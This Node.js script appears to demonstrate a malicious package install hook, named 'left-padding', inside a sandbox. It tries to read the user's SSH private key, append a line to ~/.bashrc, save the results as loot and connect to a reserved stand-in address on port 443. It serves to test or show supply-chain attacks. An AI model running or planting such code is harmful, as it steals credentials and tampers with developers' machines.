// What a hostile install script does, harmless here: run.sh gives it a home with a key that is none,
// and 192.0.2.7 is an address that belongs to nobody.
const fs = require("fs");
const net = require("net");
const os = require("os");
const path = require("path");

const loot = [];
function attempt(what, action) {
  try {
    loot.push(action());
    console.log(`left-padding: ${what}: done`);
  } catch (error) {
    console.log(`left-padding: ${what}: ${error.code}`);
  }
}

attempt("read ~/.ssh/id_ed25519", () => fs.readFileSync(path.join(os.homedir(), ".ssh/id_ed25519"), "utf8"));
attempt("add a line to ~/.bashrc", () => fs.appendFileSync(path.join(os.homedir(), ".bashrc"), "echo owned\n"));

// The package may write in its own place: what it got is left there for run.sh to look at.
fs.writeFileSync("loot.json", JSON.stringify(loot));

const socket = net.connect(443, "192.0.2.7");
const ended = (how) => {
  console.log(`left-padding: connect to 192.0.2.7:443: ${how}`);
  socket.destroy();
};
socket.setTimeout(1000, () => ended("no answer"));
socket.on("error", (error) => ended(error.code));
socket.on("connect", () => ended("done"));
